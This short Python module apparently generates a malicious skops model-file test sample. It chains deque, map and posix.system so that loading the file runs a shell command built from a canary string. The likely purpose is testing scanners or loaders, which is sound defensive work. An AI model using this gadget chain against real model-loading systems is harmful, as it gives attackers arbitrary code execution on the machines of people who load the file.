"""ListNode calls its type with the items: deque consumes map."""

from __future__ import annotations

from malicious_samples.recipes import json_node, node, sequence, shell, skops


def build(canary: str) -> bytes:
    arguments = node("ListNode", "builtins", "list", content=[json_node(shell(canary))])
    mapped = node(
        "ConstructorFromReduceNode",
        "builtins",
        "map",
        content=sequence("tuple", node("TypeNode", "posix", "system"), arguments),
    )
    return skops(
        node("ConstructorFromReduceNode", "collections", "deque", content=sequence("tuple", mapped))
    )
